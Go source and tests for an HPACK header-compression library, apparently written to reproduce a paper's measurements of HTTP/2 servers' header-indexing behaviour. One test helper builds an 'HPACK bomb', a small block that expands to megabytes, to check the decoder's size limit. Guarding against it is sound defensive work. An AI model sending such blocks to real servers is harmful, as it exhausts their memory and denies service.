			if (err != nil) != tc.wantErr {
				t.Fatalf("decodeHuffman(%x) err = %v, wantErr = %v", tc.in, err, tc.wantErr)
			}
			if err == nil && string(got) != tc.want {
				t.Fatalf("decodeHuffman(%x) = %q, want %q", tc.in, got, tc.want)
			}
			treeGot, treeErr := decodeHuffmanTree(nil, tc.in)
			if (treeErr != nil) != (err != nil) {
				t.Fatalf("decoder disagreement on %x: table err = %v, tree err = %v", tc.in, err, treeErr)
			}
			if !bytes.Equal(got, treeGot) {
				t.Fatalf("decoder disagreement on %x: table = %x, tree = %x", tc.in, got, treeGot)
			}
		})
	}
}

// TestHuffmanTableMatchesTree exhaustively compares the table decoder with
// the reference tree decoder over every 2-octet input — 65,536 cases cover
// every state transition the 4-bit machine can make from a cold start,
// including every padding-acceptance decision up to 16 bits.
func TestHuffmanTableMatchesTree(t *testing.T) {
	var src [2]byte
	for i := 0; i < 1<<16; i++ {
		src[0], src[1] = byte(i>>8), byte(i)
		table, tableErr := decodeHuffman(nil, src[:])
		tree, treeErr := decodeHuffmanTree(nil, src[:])
		if (tableErr != nil) != (treeErr != nil) {
			t.Fatalf("input %x: table err = %v, tree err = %v", src, tableErr, treeErr)
		}
		if !bytes.Equal(table, tree) {
			t.Fatalf("input %x: table = %x, tree = %x", src, table, tree)
		}
	}
}

// TestHuffmanTableRoundTripAllSymbols encodes each octet value alone and in
// a run, proving the table decoder inverts the encoder for all 256 symbols.
func TestHuffmanTableRoundTripAllSymbols(t *testing.T) {
	for sym := 0; sym < 256; sym++ {
		s := string([]byte{byte(sym), byte(sym), byte(sym)})
		enc := appendHuffman(nil, s)
		dec, err := decodeHuffman(nil, enc)
		if err != nil {
			t.Fatalf("symbol %#x: decode error %v", sym, err)
		}
		if string(dec) != s {
			t.Fatalf("symbol %#x: round trip = %x, want %x", sym, dec, s)
		}
	}
}
