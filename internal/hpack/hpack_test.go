package hpack

import (
	"bytes"
	"encoding/hex"
	"errors"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

func mustHex(t *testing.T, s string) []byte {
	t.Helper()
	b, err := hex.DecodeString(strings.ReplaceAll(s, " ", ""))
	if err != nil {
		t.Fatalf("bad hex %q: %v", s, err)
	}
	return b
}

// --- Integer primitive (RFC 7541 C.1) ---

func TestVarIntRFCExamples(t *testing.T) {
	tests := []struct {
		name   string
		prefix uint8
		first  byte
		n      uint64
		want   []byte
	}{
		{"C.1.1 ten with 5-bit prefix", 5, 0, 10, []byte{0x0a}},
		{"C.1.2 1337 with 5-bit prefix", 5, 0, 1337, []byte{0x1f, 0x9a, 0x0a}},
		{"C.1.3 42 with 8-bit prefix", 8, 0, 42, []byte{0x2a}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := appendVarInt(nil, tt.prefix, tt.first, tt.n)
			if !bytes.Equal(got, tt.want) {
				t.Errorf("appendVarInt = %x, want %x", got, tt.want)
			}
			back, rest, err := readVarInt(got, tt.prefix)
			if err != nil || back != tt.n || len(rest) != 0 {
				t.Errorf("readVarInt = %d, rest %x, err %v", back, rest, err)
			}
		})
	}
}

func TestVarIntRoundTripProperty(t *testing.T) {
	prop := func(n uint64, prefix uint8) bool {
		p := prefix%8 + 1
		n %= 1 << 40
		enc := appendVarInt(nil, p, 0, n)
		got, rest, err := readVarInt(enc, p)
		return err == nil && got == n && len(rest) == 0
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 5000}); err != nil {
		t.Fatal(err)
	}
}

func TestVarIntTruncated(t *testing.T) {
	if _, _, err := readVarInt(nil, 5); err == nil {
		t.Error("empty buffer accepted")
	}
	if _, _, err := readVarInt([]byte{0x1f, 0x80}, 5); err == nil {
		t.Error("truncated continuation accepted")
	}
	// 10 continuation bytes overflow the 62-bit guard.
	over := []byte{0x1f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f}
	if _, _, err := readVarInt(over, 5); err == nil {
		t.Error("overflowing integer accepted")
	}
}

// --- Huffman (RFC 7541 C.4 string vectors) ---

func TestHuffmanRFCVectors(t *testing.T) {
	tests := []struct {
		raw string
		hex string
	}{
		{"www.example.com", "f1e3 c2e5 f23a 6ba0 ab90 f4ff"},
		{"no-cache", "a8eb 1064 9cbf"},
		{"custom-key", "25a8 49e9 5ba9 7d7f"},
		{"custom-value", "25a8 49e9 5bb8 e8b4 bf"},
		{"302", "6402"},
		{"private", "aec3 771a 4b"},
		{"Mon, 21 Oct 2013 20:13:21 GMT", "d07a be94 1054 d444 a820 0595 040b 8166 e082 a62d 1bff"},
		{"https://www.example.com", "9d29 ad17 1863 c78f 0b97 c8e9 ae82 ae43 d3"},
	}
	for _, tt := range tests {
		t.Run(tt.raw, func(t *testing.T) {
			want := mustHex(t, tt.hex)
			got := appendHuffman(nil, tt.raw)
			if !bytes.Equal(got, want) {
				t.Errorf("appendHuffman(%q) = %x, want %x", tt.raw, got, want)
			}
			if n := huffmanEncodedLen(tt.raw); n != len(want) {
				t.Errorf("huffmanEncodedLen(%q) = %d, want %d", tt.raw, n, len(want))
			}
			back, err := decodeHuffman(nil, want)
			if err != nil {
				t.Fatalf("decodeHuffman: %v", err)
			}
			if string(back) != tt.raw {
				t.Errorf("decodeHuffman = %q, want %q", back, tt.raw)
			}
		})
	}
}

func TestHuffmanRoundTripProperty(t *testing.T) {
	prop := func(data []byte) bool {
		enc := appendHuffman(nil, string(data))
		dec, err := decodeHuffman(nil, enc)
		return err == nil && bytes.Equal(dec, data)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

func TestHuffmanBadPadding(t *testing.T) {
	// "0" encodes to 5 bits 00000; padded with 111 → 0x07. A full 0x00 octet
	// would decode "0" then leave 000 pending, which is invalid padding.
	if _, err := decodeHuffman(nil, []byte{0x00}); err == nil {
		t.Error("zero padding accepted")
	}
	// A lone 0xff octet is a valid EOS prefix (8 bits would exceed 7)...
	// actually 8 one-bits exceed the 7-bit maximum padding, so it must fail.
	if _, err := decodeHuffman(nil, []byte{0xff}); err == nil {
		t.Error("8-bit EOS prefix accepted, want error (padding must be < 8 bits)")
	}
	// Valid: "1" = 00001 (5 bits) + 3 one-bits padding = 0000 1111 = 0x0f.
	got, err := decodeHuffman(nil, []byte{0x0f})
	if err != nil || string(got) != "1" {
		t.Errorf("decodeHuffman(0x0f) = %q, %v; want \"1\", nil", got, err)
	}
}

// --- Dynamic table ---

func TestDynamicTableAddEvict(t *testing.T) {
	dt := newDynamicTable(100)
	a := HeaderField{Name: "aaaa", Value: "bbbb"} // size 40
	b := HeaderField{Name: "cccc", Value: "dddd"} // size 40
	c := HeaderField{Name: "eeee", Value: "ffff"} // size 40
	dt.add(a)
	dt.add(b)
	if dt.length() != 2 || dt.size != 80 {
		t.Fatalf("len=%d size=%d, want 2/80", dt.length(), dt.size)
	}
	dt.add(c) // evicts a
	if dt.length() != 2 {
		t.Fatalf("len=%d after eviction, want 2", dt.length())
	}
	if hf, ok := dt.at(1); !ok || hf != c {
		t.Errorf("at(1) = %+v, want newest %+v", hf, c)
	}
	if hf, ok := dt.at(2); !ok || hf != b {
		t.Errorf("at(2) = %+v, want %+v", hf, b)
	}
	if _, ok := dt.at(3); ok {
		t.Error("at(3) found evicted entry")
	}
}

func TestDynamicTableOversizeEntryClearsTable(t *testing.T) {
	dt := newDynamicTable(50)
	dt.add(HeaderField{Name: "a", Value: "b"})
	dt.add(HeaderField{Name: strings.Repeat("x", 100), Value: "y"})
	if dt.length() != 0 || dt.size != 0 {
		t.Errorf("len=%d size=%d after oversize add, want 0/0", dt.length(), dt.size)
	}
}

func TestDynamicTableSetMaxSizeEvicts(t *testing.T) {
	dt := newDynamicTable(200)
	for i := 0; i < 4; i++ {
		dt.add(HeaderField{Name: "name", Value: "valu"}) // 40 each
	}
	dt.setMaxSize(80)
	if dt.length() != 2 {
		t.Errorf("len=%d after shrink, want 2", dt.length())
	}
}

func TestStaticTableLookups(t *testing.T) {
	if staticTableLen != 61 {
		t.Fatalf("staticTableLen = %d, want 61", staticTableLen)
	}
	dt := newDynamicTable(4096)
	hf, ok := dt.lookup(2)
	if !ok || hf.Name != ":method" || hf.Value != "GET" {
		t.Errorf("lookup(2) = %+v, want :method GET", hf)
	}
	hf, ok = dt.lookup(54)
	if !ok || hf.Name != "server" {
		t.Errorf("lookup(54) = %+v, want server", hf)
	}
	if _, ok = dt.lookup(62); ok {
		t.Error("lookup(62) on empty dynamic table succeeded")
	}
	if _, ok = dt.lookup(0); ok {
		t.Error("lookup(0) succeeded")
	}
}

// --- Encoder/decoder: RFC 7541 C.3 (plain) and C.4 (Huffman) request series ---

func requestFields(scheme, path, authority string, extra ...HeaderField) []HeaderField {
	fields := []HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":scheme", Value: scheme},
		{Name: ":path", Value: path},
		{Name: ":authority", Value: authority},
	}
	return append(fields, extra...)
}

func TestEncoderRFCC4RequestSeries(t *testing.T) {
	enc := NewEncoder(PolicyIndexAll)

	got1 := enc.EncodeBlock(requestFields("http", "/", "www.example.com"))
	want1 := mustHex(t, "8286 8441 8cf1 e3c2 e5f2 3a6b a0ab 90f4 ff")
	if !bytes.Equal(got1, want1) {
		t.Fatalf("first request = %x, want %x", got1, want1)
	}

	got2 := enc.EncodeBlock(requestFields("http", "/", "www.example.com",
		HeaderField{Name: "cache-control", Value: "no-cache"}))
	want2 := mustHex(t, "8286 84be 5886 a8eb 1064 9cbf")
	if !bytes.Equal(got2, want2) {
		t.Fatalf("second request = %x, want %x", got2, want2)
	}

	got3 := enc.EncodeBlock(requestFields("https", "/index.html", "www.example.com",
		HeaderField{Name: "custom-key", Value: "custom-value"}))
	want3 := mustHex(t, "8287 85bf 4088 25a8 49e9 5ba9 7d7f 8925 a849 e95b b8e8 b4bf")
	if !bytes.Equal(got3, want3) {
		t.Fatalf("third request = %x, want %x", got3, want3)
	}

	if enc.DynamicTableLen() != 3 {
		t.Errorf("encoder dynamic table has %d entries, want 3", enc.DynamicTableLen())
	}
}

func TestDecoderRFCC3PlainRequestSeries(t *testing.T) {
	dec := NewDecoder(DefaultDynamicTableSize)

	fields, err := dec.DecodeFull(mustHex(t,
		"8286 8441 0f77 7777 2e65 7861 6d70 6c65 2e63 6f6d"))
	if err != nil {
		t.Fatalf("C.3.1 decode: %v", err)
	}
	want := requestFields("http", "/", "www.example.com")
	if !reflect.DeepEqual(fields, want) {
		t.Errorf("C.3.1 = %+v, want %+v", fields, want)
	}

	fields, err = dec.DecodeFull(mustHex(t, "8286 84be 5808 6e6f 2d63 6163 6865"))
	if err != nil {
		t.Fatalf("C.3.2 decode: %v", err)
	}
	want = requestFields("http", "/", "www.example.com",
		HeaderField{Name: "cache-control", Value: "no-cache"})
	if !reflect.DeepEqual(fields, want) {
		t.Errorf("C.3.2 = %+v, want %+v", fields, want)
	}

	fields, err = dec.DecodeFull(mustHex(t,
		"8287 85bf 400a 6375 7374 6f6d 2d6b 6579 0c63 7573 746f 6d2d 7661 6c75 65"))
	if err != nil {
		t.Fatalf("C.3.3 decode: %v", err)
	}
	want = requestFields("https", "/index.html", "www.example.com",
		HeaderField{Name: "custom-key", Value: "custom-value"})
	if !reflect.DeepEqual(fields, want) {
		t.Errorf("C.3.3 = %+v, want %+v", fields, want)
	}
	if dec.DynamicTableLen() != 3 {
		t.Errorf("decoder dynamic table has %d entries, want 3", dec.DynamicTableLen())
	}
}

func TestDecoderRFCC6ResponseSeriesWithEviction(t *testing.T) {
	// RFC 7541 C.6: responses over a 256-byte dynamic table, Huffman coded.
	dec := NewDecoder(256)

	f1, err := dec.DecodeFull(mustHex(t,
		"4882 6402 5885 aec3 771a 4b61 96d0 7abe 9410 54d4 44a8 2005 9504 0b81 66e0 82a6 2d1b ff6e 919d 29ad 1718 63c7 8f0b 97c8 e9ae 82ae 43d3"))
	if err != nil {
		t.Fatalf("C.6.1 decode: %v", err)
	}
	want1 := []HeaderField{
		{Name: ":status", Value: "302"},
		{Name: "cache-control", Value: "private"},
		{Name: "date", Value: "Mon, 21 Oct 2013 20:13:21 GMT"},
		{Name: "location", Value: "https://www.example.com"},
	}
	if !reflect.DeepEqual(f1, want1) {
		t.Errorf("C.6.1 = %+v, want %+v", f1, want1)
	}
	if dec.DynamicTableLen() != 4 {
		t.Fatalf("after C.6.1 table has %d entries, want 4", dec.DynamicTableLen())
	}

	// C.6.2: ":status: 307" evicts the oldest entry.
	f2, err := dec.DecodeFull(mustHex(t, "4883 640e ffc1 c0bf"))
	if err != nil {
		t.Fatalf("C.6.2 decode: %v", err)
	}
	if f2[0].Value != "307" {
		t.Errorf("C.6.2 status = %q, want 307", f2[0].Value)
	}
	if dec.DynamicTableLen() != 4 {
		t.Errorf("after C.6.2 table has %d entries, want 4", dec.DynamicTableLen())
	}
}

func TestEncodeDecodeRoundTripWithSensitive(t *testing.T) {
	enc := NewEncoder(PolicyIndexAll)
	dec := NewDecoder(DefaultDynamicTableSize)
	fields := []HeaderField{
		{Name: ":status", Value: "200"},
		{Name: "server", Value: "h2repro/1.0"},
		{Name: "authorization", Value: "Bearer secret-token", Sensitive: true},
		{Name: "x-custom", Value: "v1"},
	}
	for round := 0; round < 3; round++ {
		block := enc.EncodeBlock(fields)
		got, err := dec.DecodeFull(block)
		if err != nil {
			t.Fatalf("round %d: %v", round, err)
		}
		if !reflect.DeepEqual(got, fields) {
			t.Fatalf("round %d: got %+v, want %+v", round, got, fields)
		}
	}
	// Sensitive field must never enter either dynamic table.
	for i := 0; i < enc.DynamicTableLen(); i++ {
		if hf, ok := enc.dt.at(uint64(i + 1)); ok && hf.Name == "authorization" {
			t.Error("sensitive field stored in encoder dynamic table")
		}
	}
}

func TestPolicyNoDynamicInsertYieldsConstantBlockSize(t *testing.T) {
	// The crux of the paper's Figs. 4/5: Nginx-style encoders emit the same
	// bytes for every identical response (r ≈ 1), while indexing encoders
	// shrink dramatically after the first block.
	response := []HeaderField{
		{Name: ":status", Value: "200"},
		{Name: "server", Value: "nginx/1.9.15"},
		{Name: "content-type", Value: "text/html; charset=utf-8"},
		{Name: "last-modified", Value: "Tue, 05 Jul 2016 10:00:00 GMT"},
		{Name: "etag", Value: "\"57838f70-264\""},
	}

	noIdx := NewEncoder(PolicyNoDynamicInsert)
	first := len(noIdx.EncodeBlock(response))
	second := len(noIdx.EncodeBlock(response))
	if first != second {
		t.Errorf("PolicyNoDynamicInsert sizes differ: %d then %d", first, second)
	}
	if noIdx.DynamicTableLen() != 0 {
		t.Errorf("PolicyNoDynamicInsert inserted %d entries", noIdx.DynamicTableLen())
	}

	idx := NewEncoder(PolicyIndexAll)
	firstIdx := len(idx.EncodeBlock(response))
	secondIdx := len(idx.EncodeBlock(response))
	if secondIdx >= firstIdx/2 {
		t.Errorf("PolicyIndexAll second block %d not much smaller than first %d", secondIdx, firstIdx)
	}
}

func TestDecoderRejectsBadIndex(t *testing.T) {
	dec := NewDecoder(DefaultDynamicTableSize)
	if _, err := dec.DecodeFull([]byte{0xff, 0xff, 0x7f}); err == nil {
		t.Error("huge index accepted")
	}
	if _, err := dec.DecodeFull([]byte{0x80}); err == nil {
		t.Error("index 0 accepted")
	}
}

func TestDecoderRejectsLateTableSizeUpdate(t *testing.T) {
	dec := NewDecoder(DefaultDynamicTableSize)
	// Indexed :method GET (0x82) followed by a size update (0x20).
	if _, err := dec.DecodeFull([]byte{0x82, 0x20}); err == nil {
		t.Error("size update after field accepted")
	}
}

func TestDecoderRejectsOversizeTableUpdate(t *testing.T) {
	dec := NewDecoder(4096)
	block := appendVarInt(nil, 5, 0x20, 8192)
	if _, err := dec.DecodeFull(block); err == nil {
		t.Error("table size update above SETTINGS limit accepted")
	}
}

func TestDecoderMaxStringLength(t *testing.T) {
	dec := NewDecoder(DefaultDynamicTableSize)
	dec.SetMaxStringLength(4)
	enc := NewEncoder(PolicyIndexAll)
	block := enc.EncodeBlock([]HeaderField{{Name: "n", Value: "longer-than-four"}})
	if _, err := dec.DecodeFull(block); err == nil {
		t.Error("oversize string accepted")
	}
}

func TestEncoderTableSizeUpdateEmitted(t *testing.T) {
	enc := NewEncoder(PolicyIndexAll)
	enc.SetMaxDynamicTableSize(0)
	block := enc.EncodeBlock([]HeaderField{{Name: ":method", Value: "GET"}})
	if len(block) == 0 || block[0] != 0x20 {
		t.Fatalf("block = %x, want leading size-update 0x20", block)
	}
	dec := NewDecoder(DefaultDynamicTableSize)
	if _, err := dec.DecodeFull(block); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if dec.dt.maxSize != 0 {
		t.Errorf("decoder table max = %d, want 0", dec.dt.maxSize)
	}
}

func TestEncodeDecodeRoundTripProperty(t *testing.T) {
	enc := NewEncoder(PolicyIndexAll)
	dec := NewDecoder(DefaultDynamicTableSize)
	prop := func(names, values [][]byte) bool {
		n := len(names)
		if len(values) < n {
			n = len(values)
		}
		if n > 8 {
			n = 8
		}
		fields := make([]HeaderField, 0, n)
		for i := 0; i < n; i++ {
			fields = append(fields, HeaderField{Name: string(names[i]), Value: string(values[i])})
		}
		block := enc.EncodeBlock(fields)
		got, err := dec.DecodeFull(block)
		if err != nil {
			return false
		}
		if len(fields) == 0 {
			return len(got) == 0
		}
		return reflect.DeepEqual(got, fields)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestHeaderFieldSizeAndString(t *testing.T) {
	hf := HeaderField{Name: "ab", Value: "cdef"}
	if hf.Size() != 38 {
		t.Errorf("Size() = %d, want 38", hf.Size())
	}
	if s := hf.String(); s != "ab: cdef" {
		t.Errorf("String() = %q", s)
	}
	sens := HeaderField{Name: "a", Value: "b", Sensitive: true}
	if s := sens.String(); !strings.Contains(s, "sensitive") {
		t.Errorf("String() = %q, want sensitive marker", s)
	}
}

func TestSensitiveFieldUsesNeverIndexedRepresentation(t *testing.T) {
	enc := NewEncoder(PolicyIndexAll)
	block := enc.EncodeBlock([]HeaderField{
		{Name: "authorization", Value: "secret", Sensitive: true},
	})
	// RFC 7541 section 6.2.3: never-indexed literals start with 0001xxxx.
	if len(block) == 0 || block[0]&0xf0 != 0x10 {
		t.Fatalf("block starts with 0x%02x, want never-indexed prefix 0x1x", block[0])
	}
	if enc.DynamicTableLen() != 0 {
		t.Error("sensitive field entered the dynamic table")
	}
	// The flag survives a decode.
	dec := NewDecoder(DefaultDynamicTableSize)
	fields, err := dec.DecodeFull(block)
	if err != nil {
		t.Fatal(err)
	}
	if len(fields) != 1 || !fields[0].Sensitive {
		t.Errorf("decoded = %+v, want sensitive", fields)
	}
	if dec.DynamicTableLen() != 0 {
		t.Error("decoder indexed a never-indexed field")
	}
}

func TestLiteralNameFromDynamicTable(t *testing.T) {
	// Second occurrence of a custom name with a different value must
	// reference the name by dynamic index, and the decoder must resolve it.
	enc := NewEncoder(PolicyIndexAll)
	dec := NewDecoder(DefaultDynamicTableSize)
	b1 := enc.EncodeBlock([]HeaderField{{Name: "x-trace-id", Value: "one"}})
	if _, err := dec.DecodeFull(b1); err != nil {
		t.Fatal(err)
	}
	b2 := enc.EncodeBlock([]HeaderField{{Name: "x-trace-id", Value: "two"}})
	if len(b2) >= len(b1) {
		t.Errorf("second block (%d bytes) not smaller than first (%d): name not reused", len(b2), len(b1))
	}
	fields, err := dec.DecodeFull(b2)
	if err != nil {
		t.Fatal(err)
	}
	if len(fields) != 1 || fields[0].Name != "x-trace-id" || fields[0].Value != "two" {
		t.Errorf("decoded = %+v", fields)
	}
}

func TestPartialEncoderFractionBoundsAndDeterminism(t *testing.T) {
	fields := []HeaderField{
		{Name: "alpha", Value: "1"}, {Name: "bravo", Value: "2"},
		{Name: "charlie", Value: "3"}, {Name: "delta", Value: "4"},
	}
	zero := NewPartialEncoder(-1, 0) // clamps to 0: nothing indexed
	zero.EncodeBlock(fields)
	if zero.DynamicTableLen() != 0 {
		t.Errorf("fraction<=0 indexed %d entries", zero.DynamicTableLen())
	}
	full := NewPartialEncoder(2, 0) // clamps to 1: everything indexed
	full.EncodeBlock(fields)
	if full.DynamicTableLen() != len(fields) {
		t.Errorf("fraction>=1 indexed %d entries, want %d", full.DynamicTableLen(), len(fields))
	}
	// Same salt → same subset; different salt → (very likely) different.
	a := NewPartialEncoder(0.5, 42)
	b := NewPartialEncoder(0.5, 42)
	a.EncodeBlock(fields)
	b.EncodeBlock(fields)
	if a.DynamicTableLen() != b.DynamicTableLen() {
		t.Error("same salt produced different indexing")
	}
}

func TestPartialEncoderDecodableByStandardDecoder(t *testing.T) {
	enc := NewPartialEncoder(0.5, 99)
	dec := NewDecoder(DefaultDynamicTableSize)
	fields := []HeaderField{
		{Name: ":status", Value: "200"},
		{Name: "server", Value: "partial/1.0"},
		{Name: "etag", Value: "\"abc\""},
		{Name: "x-custom-a", Value: "aaaa"},
		{Name: "x-custom-b", Value: "bbbb"},
	}
	for round := 0; round < 4; round++ {
		block := enc.EncodeBlock(fields)
		got, err := dec.DecodeFull(block)
		if err != nil {
			t.Fatalf("round %d: %v", round, err)
		}
		if !reflect.DeepEqual(got, fields) {
			t.Fatalf("round %d: got %+v", round, got)
		}
	}
}

func TestEvictionUnderTableSizeChurn(t *testing.T) {
	enc := NewEncoder(PolicyIndexAll)
	dec := NewDecoder(DefaultDynamicTableSize)
	fields := []HeaderField{
		{Name: "x-first", Value: strings.Repeat("v", 100)},
		{Name: "x-second", Value: strings.Repeat("w", 100)},
	}
	if _, err := dec.DecodeFull(enc.EncodeBlock(fields)); err != nil {
		t.Fatal(err)
	}
	// Shrink hard, then grow back; decodes must keep succeeding and tables
	// must stay in sync.
	for _, size := range []uint32{64, 0, 4096} {
		enc.SetMaxDynamicTableSize(size)
		block := enc.EncodeBlock(fields)
		got, err := dec.DecodeFull(block)
		if err != nil {
			t.Fatalf("size %d: %v", size, err)
		}
		if !reflect.DeepEqual(got, fields) {
			t.Fatalf("size %d: got %+v", size, got)
		}
		if enc.DynamicTableLen() != dec.DynamicTableLen() {
			t.Fatalf("size %d: table divergence enc=%d dec=%d", size, enc.DynamicTableLen(), dec.DynamicTableLen())
		}
	}
}

func TestHuffmanChosenOnlyWhenShorter(t *testing.T) {
	// A value of rare characters inflates under Huffman; the encoder must
	// fall back to the raw literal form.
	enc := NewEncoder(PolicyNoDynamicInsert)
	rare := "\x00\x01\x02\x03\x04"
	block := enc.EncodeBlock([]HeaderField{{Name: "x", Value: rare}})
	dec := NewDecoder(DefaultDynamicTableSize)
	fields, err := dec.DecodeFull(block)
	if err != nil {
		t.Fatal(err)
	}
	if fields[0].Value != rare {
		t.Errorf("value = %q", fields[0].Value)
	}
	if hl := huffmanEncodedLen(rare); hl <= len(rare) {
		t.Fatalf("test premise broken: huffman %d <= raw %d", hl, len(rare))
	}
}

// bombTestBlock builds the classic HPACK-bomb shape by hand: one literal
// with incremental indexing inserting a valueLen-byte entry, then refs
// indexed references to it (index 62, the newest dynamic slot). The wire
// size is ~valueLen+refs bytes; the decoded list is ~refs*valueLen.
func bombTestBlock(valueLen, refs int) []byte {
	block := []byte{0x40}
	name := "bomb"
	block = appendVarInt(block, 7, 0, uint64(len(name)))
	block = append(block, name...)
	block = appendVarInt(block, 7, 0, uint64(valueLen))
	block = append(block, bytes.Repeat([]byte{'x'}, valueLen)...)
	for i := 0; i < refs; i++ {
		block = appendVarInt(block, 7, 0x80, 62)
	}
	return block
}

// TestDecoderMaxHeaderListSize pins the HPACK-bomb guard: a small wire
// block that decodes past the configured list bound draws
// ErrHeaderListSize, and the same shape under the bound decodes fully.
func TestDecoderMaxHeaderListSize(t *testing.T) {
	dec := NewDecoder(DefaultDynamicTableSize)
	dec.SetMaxHeaderListSize(64 << 10)
	block := bombTestBlock(3000, 1000) // ~4KB wire, ~3MB decoded
	_, err := dec.DecodeFull(block)
	if !errors.Is(err, ErrHeaderListSize) {
		t.Fatalf("bomb decode error = %v, want ErrHeaderListSize", err)
	}
	var de DecodingError
	if !errors.As(err, &de) {
		t.Fatalf("bomb error %T not a DecodingError (COMPRESSION_ERROR mapping)", err)
	}

	// 10 references of the same entry stay under 64KiB and must decode.
	dec2 := NewDecoder(DefaultDynamicTableSize)
	dec2.SetMaxHeaderListSize(64 << 10)
	fields, err := dec2.DecodeFull(bombTestBlock(3000, 10))
	if err != nil {
		t.Fatalf("under-limit decode: %v", err)
	}
	if len(fields) != 11 {
		t.Fatalf("decoded %d fields, want 11", len(fields))
	}

	// The zero value means unlimited: the full bomb decodes when unguarded.
	dec3 := NewDecoder(DefaultDynamicTableSize)
	fields, err = dec3.DecodeFull(block)
	if err != nil {
		t.Fatalf("unguarded decode: %v", err)
	}
	if len(fields) != 1001 {
		t.Fatalf("unguarded decoded %d fields, want 1001", len(fields))
	}
}
