package hpack

// IndexingPolicy selects how aggressively an Encoder uses the dynamic table.
//
// The paper's HPACK experiment (Section V-G, Figs. 4 and 5) shows deployed
// servers differ exactly here: GSE and LiteSpeed insert response fields into
// the dynamic table (compression ratio r < 0.3 over repeated identical
// responses) while Nginx and Tengine never do (r ≈ 1).
type IndexingPolicy int

const (
	// PolicyIndexAll inserts every indexable field into the dynamic table.
	PolicyIndexAll IndexingPolicy = iota + 1
	// PolicyNoDynamicInsert never inserts fields into the dynamic table.
	// Exact static-table matches are still used. This reproduces the
	// Nginx/Tengine response-encoding behavior ("support*" in Table III).
	PolicyNoDynamicInsert
	// PolicyIndexPartial inserts only a deterministic subset of field
	// names, selected by NewPartialEncoder's fraction. Deployed servers
	// between the extremes (the middles of the paper's Figs. 4 and 5
	// ratio CDFs) behave this way: some response fields compress across
	// repeats, others are re-sent literally every time.
	PolicyIndexPartial
)

// Encoder encodes header blocks. An Encoder maintains one dynamic table and
// therefore belongs to exactly one HTTP/2 connection direction.
// It is not safe for concurrent use.
type Encoder struct {
	dt     *dynamicTable
	policy IndexingPolicy

	// partialThreshold selects which field names PolicyIndexPartial
	// indexes: names whose salted hash falls below it.
	partialThreshold uint32
	partialSalt      uint32

	// tableSizeUpdate, when pendingUpdate is set, is emitted as a dynamic
	// table size update at the start of the next header block.
	tableSizeUpdate uint32
	pendingUpdate   bool
}

// NewEncoder returns an encoder with the default 4,096-byte dynamic table.
func NewEncoder(policy IndexingPolicy) *Encoder {
	return &Encoder{
		dt:     newDynamicTable(DefaultDynamicTableSize),
		policy: policy,
	}
}

// DefaultDynamicTableSize is the initial SETTINGS_HEADER_TABLE_SIZE value.
const DefaultDynamicTableSize = 4096

// NewPartialEncoder returns a PolicyIndexPartial encoder that indexes
// roughly the given fraction (0..1) of distinct field names. salt varies
// *which* names fall in the indexed subset, so a population of servers with
// the same fraction still differs in the exact fields it compresses.
func NewPartialEncoder(fraction float64, salt uint32) *Encoder {
	if fraction < 0 {
		fraction = 0
	}
	if fraction > 1 {
		fraction = 1
	}
	e := NewEncoder(PolicyIndexPartial)
	e.partialThreshold = uint32(fraction * float64(1<<32-1))
	e.partialSalt = salt
	return e
}

// fnv32 hashes a field name for the partial-indexing decision.
func fnv32(s string) uint32 {
	const (
		offset32 = 2166136261
		prime32  = 16777619
	)
	h := uint32(offset32)
	for i := 0; i < len(s); i++ {
		h ^= uint32(s[i])
		h *= prime32
	}
	return h
}

// shouldIndex applies the encoder policy to one field.
func (e *Encoder) shouldIndex(hf HeaderField) bool {
	switch e.policy {
	case PolicyIndexAll:
		return true
	case PolicyIndexPartial:
		h := fnv32(hf.Name) ^ e.partialSalt*2654435761
		return h <= e.partialThreshold
	default:
		return false
	}
}

// SetMaxDynamicTableSize schedules a dynamic table size update. The new size
// takes effect immediately for the encoder's own table and is announced at
// the start of the next encoded block, as RFC 7541 section 4.2 requires.
func (e *Encoder) SetMaxDynamicTableSize(n uint32) {
	e.dt.setMaxSize(n)
	e.tableSizeUpdate = n
	e.pendingUpdate = true
}

// DynamicTableLen returns the number of entries currently in the encoder's
// dynamic table. Probes use it to verify indexing behavior.
func (e *Encoder) DynamicTableLen() int { return e.dt.length() }

// EncodeBlock encodes fields as one header block and returns a fresh slice.
func (e *Encoder) EncodeBlock(fields []HeaderField) []byte {
	return e.AppendBlock(nil, fields)
}

// AppendBlock encodes fields as one header block, appending the octets to
// dst and returning the extended slice. Passing a scratch slice with
// retained capacity (buf[:0]) makes steady-state encoding allocation-free
// once the dynamic table has converged.
func (e *Encoder) AppendBlock(dst []byte, fields []HeaderField) []byte {
	if e.pendingUpdate {
		dst = appendVarInt(dst, 5, 0x20, uint64(e.tableSizeUpdate))
		e.pendingUpdate = false
	}
	for _, hf := range fields {
		dst = e.appendField(dst, hf)
	}
	return dst
}

func (e *Encoder) appendField(dst []byte, hf HeaderField) []byte {
	// Exact match: indexed representation.
	if idx, ok := staticByPair[pair{hf.Name, hf.Value}]; ok && !hf.Sensitive {
		return appendVarInt(dst, 7, 0x80, idx)
	}
	dynIdx, nameOnly, dynFound := e.dt.search(hf)
	if dynFound && !nameOnly && !hf.Sensitive {
		return appendVarInt(dst, 7, 0x80, dynIdx)
	}

	// Pick the best name index, static preferred for stability.
	var nameIdx uint64
	if idx, ok := staticByName[hf.Name]; ok {
		nameIdx = idx
	} else if dynFound {
		nameIdx = dynIdx
	}

	switch {
	case hf.Sensitive:
		// Never-indexed literal (RFC 7541 section 6.2.3).
		dst = appendVarInt(dst, 4, 0x10, nameIdx)
	case e.shouldIndex(hf) && hf.Size() <= e.dt.maxSize:
		// Literal with incremental indexing (section 6.2.1).
		dst = appendVarInt(dst, 6, 0x40, nameIdx)
		e.dt.add(hf)
	default:
		// Literal without indexing (section 6.2.2).
		dst = appendVarInt(dst, 4, 0x00, nameIdx)
	}
	if nameIdx == 0 {
		dst = appendString(dst, hf.Name)
	}
	return appendString(dst, hf.Value)
}

